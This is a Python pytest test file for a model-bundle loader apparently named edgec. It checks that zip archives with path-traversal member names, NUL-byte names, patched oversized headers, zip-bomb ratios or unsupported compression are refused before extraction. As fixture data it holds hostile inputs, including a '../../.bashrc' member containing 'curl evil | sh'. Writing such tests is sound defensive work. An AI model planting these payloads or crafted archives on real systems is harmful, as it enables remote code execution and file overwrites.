"""Hostile bundles: refused as a whole, by name, from the zip's directory alone, before any member is inflated.

Members are never extracted, but a bundle travels between machines and a name like `../x` or a declared
size of gigabytes says it was not made by `edgec bundle`. Each refusal is built by hand here with zipfile;
the oversized ones have their central-directory sizes patched, so no test needs gigabytes.
"""

from __future__ import annotations

import hashlib
import io
import json
import struct
import zipfile
from pathlib import Path

import numpy as np
import pytest

from conftest import zipped
from edgec.runtimes import bundle
from edgec.runtimes.bundle import Bundle, BundleError
from edgec.runtimes.harness import main as harness_main

CENTRAL = b"PK\x01\x02"  # a central-directory record; sizes at +20 (compressed) and +24, the name at +46


def npz(arrays: dict[str, np.ndarray], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """An .npz as numpy.load reads it, with its members' compression chosen by the test."""
    members = {}
    for name, array in arrays.items():
        buffer = io.BytesIO()
        np.lib.format.write_array(buffer, array, allow_pickle=False)
        members[f"{name}.npy"] = buffer.getvalue()
    return zipped(members, method)


def valid_members() -> dict[str, bytes]:
    """The smallest bundle the harness accepts: one artifact, its data, an index listing both."""
    data = {"input:x": np.ones((2, 3), np.float32), "float_outputs": np.eye(2, dtype=np.float32)}
    data["host:onnx"] = data["float_outputs"]
    members = {"artifacts/m.onnx": b"not run by these tests", bundle.DATA: npz(data)}
    return indexed(members)


def indexed(members: dict[str, bytes]) -> dict[str, bytes]:
    """`members` with a bundle.json recording their sha256s, as `edgec bundle` writes it."""
    files = {name: hashlib.sha256(data).hexdigest() for name, data in members.items() if name != bundle.INDEX}
    artifact = {"name": "onnx", "file": "m.onnx", "runtime": "onnxruntime", "precision": "int8", "sha256": "0" * 64}
    index = {
        "format": bundle.FORMAT,
        "build": {"report_sha256": "0" * 64, "model": "m"},
        "target": {"id": "host-x86", "threads": 1, "max_latency_ms": None},
        "requirements": ["numpy"],
        "data": {"inputs": ["x"]},
        "artifacts": [artifact],
        "files": files,
    }
    return {**members, bundle.INDEX: json.dumps(index).encode()}


def declare(archive: bytes, name: str, file_size: int, compress_size: int | None = None) -> bytes:
    """`archive` with the central directory claiming other sizes for `name` (the data stay as they are)."""
    patched = bytearray(archive)
    at = patched.find(CENTRAL)
    while patched[at + 46 : at + 46 + len(name)] != name.encode():
        at = patched.find(CENTRAL, at + 1)
        assert at >= 0, f"{name} is not in the archive"
    if compress_size is not None:
        struct.pack_into("<I", patched, at + 20, compress_size)
    struct.pack_into("<I", patched, at + 24, file_size)
    return bytes(patched)


def write(tmp_path: Path, payload: bytes) -> Path:
    path = tmp_path / "hostile.bundle"
    path.write_bytes(payload)
    return path


def test_the_hand_made_bundle_is_accepted(tmp_path):
    """The control: every refusal below differs from this bundle in one respect only."""
    opened = Bundle(write(tmp_path, zipped(valid_members())))
    opened.verify()
    data = opened.data()
    assert len(data) == 2 and data.inputs["x"].shape == (2, 3) and [a.name for a in opened.artifacts] == ["onnx"]


@pytest.mark.parametrize(
    "name", ["/etc/passwd", "../outside.py", "edgec/../../outside.py", "edgec\\runtimes\\x.py", "C:/x.py", "c:x.py"]
)
def test_an_unsafe_member_name_refuses_the_whole_bundle(tmp_path, name):
    members = valid_members()
    members[name] = b"print('escaped')"
    with pytest.raises(BundleError, match=r"hostile\.bundle: member .* \(zip-slip\)") as refused:
        Bundle(write(tmp_path, zipped(members)))
    assert repr(name) in str(refused.value)


def test_a_nul_byte_in_a_member_name_is_seen_although_zipfile_cuts_the_name_there(tmp_path):
    members = valid_members()
    members["evil_name.py"] = b"x = 1"
    payload = zipped(members).replace(b"evil_name.py", b"evil\0name.py")
    assert "evil" in zipfile.ZipFile(io.BytesIO(payload)).namelist()  # what a naive check would look at
    with pytest.raises(BundleError, match=r"'evil\\x00name\.py' .* \(zip-slip\)"):
        Bundle(write(tmp_path, payload))


def test_a_member_declaring_more_than_the_limit_is_refused_before_inflating(tmp_path):
    payload = declare(zipped(valid_members()), "artifacts/m.onnx", bundle.MAX_MEMBER_BYTES + 1, 1 << 30)
    with pytest.raises(BundleError, match=r"member 'artifacts/m\.onnx' declares 2147483649 bytes, over the limit"):
        Bundle(write(tmp_path, payload))


def test_members_declaring_too_much_together_are_refused(tmp_path):
    members = valid_members()
    members.update({f"pad{i}.bin": b"x" for i in range(3)})
    payload = zipped(members)
    each = bundle.MAX_TOTAL_BYTES // 3 + 1  # under the per-member limit, over the total in all
    for i in range(3):
        payload = declare(payload, f"pad{i}.bin", each, each // 10)  # a ratio of 10: not a bomb
    with pytest.raises(BundleError, match=r"members declare \d+ bytes in all, over the limit of 4294967296"):
        Bundle(write(tmp_path, payload))


def test_a_zip_bomb_ratio_is_refused_before_inflating(tmp_path):
    members = valid_members()
    members["edgec/runtimes/zeros.py"] = bytes(8 << 20)  # 8 MiB of zeros deflate about 1000:1
    with pytest.raises(BundleError, match=r"'edgec/runtimes/zeros\.py' inflates \d+ bytes to 8388608 \(over 100:1"):
        Bundle(write(tmp_path, zipped(members)))


def test_an_absurd_number_of_members_is_refused(tmp_path):
    members = valid_members()
    members.update({f"m{i}": b"" for i in range(bundle.MAX_MEMBERS)})
    with pytest.raises(BundleError, match=r"1003 members, over the limit of 1000"):
        Bundle(write(tmp_path, zipped(members)))


@pytest.mark.parametrize("method", [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
def test_a_compression_method_edgec_does_not_write_is_refused(tmp_path, method):
    """bzip2 and lzma inflate a whole read at once: a small member could still fill memory."""
    with pytest.raises(BundleError, match=rf"uses compression method {method}; edgec writes stored or deflate"):
        Bundle(write(tmp_path, zipped(valid_members(), method)))


def test_the_evaluation_npz_is_held_to_the_same_rules(tmp_path):
    data = {"input:x": np.ones((2, 3), np.float32), "float_outputs": np.eye(2), "host:onnx": np.eye(2)}
    members = indexed({bundle.DATA: npz(data, zipfile.ZIP_BZIP2)})
    opened = Bundle(write(tmp_path, zipped(members)))
    opened.verify()  # the outer zip is fine and every sha256 matches
    with pytest.raises(BundleError, match=r"hostile\.bundle: data/eval\.npz: member 'input:x\.npy' uses compression"):
        opened.data()


def test_an_index_missing_what_the_harness_reads_is_refused_by_field(tmp_path):
    members = valid_members()
    index = json.loads(members[bundle.INDEX])
    index["target"]["threads"] = "two"
    members[bundle.INDEX] = json.dumps(index).encode()
    with pytest.raises(BundleError, match=r"bundle\.json: target\.threads is missing or not of type int"):
        Bundle(write(tmp_path, zipped(members)))


def test_the_harness_refuses_a_zip_slip_bundle_with_exit_2(tmp_path, capsys):
    members = valid_members()
    members["../../.bashrc"] = b"curl evil | sh"
    code = harness_main([str(write(tmp_path, zipped(members))), "--out", str(tmp_path / "results.json")])
    assert code == 2 and "zip-slip" in capsys.readouterr().err and not (tmp_path / "results.json").exists()
